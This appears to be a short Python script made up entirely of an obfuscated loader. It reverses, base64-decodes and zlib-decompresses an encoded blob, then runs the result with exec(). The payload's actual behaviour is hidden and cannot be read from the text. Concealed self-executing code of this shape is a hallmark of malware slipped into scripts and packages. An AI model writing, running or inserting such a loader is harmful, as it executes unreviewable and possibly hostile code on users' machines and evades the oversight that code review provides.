_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'=I1N4U0FGvdbm+snwEUYJfuex184KDsmwPKzdzY/lny0B11Q2IJzlz6clDtNoC4oUolre6KUVrNdPNPui4xrgZdBMoJiFsMS5dAIFiXpR3qv0JbZZi0f3hdO/zapw8TRiIzhDUPiCjdNfHjRi7dHm3oxc07Ev+bXRQ/9T5kJ2A5xu7I10yTxzoJm0pLViKMFeGxT7COAAAjgK0cylwJe'))
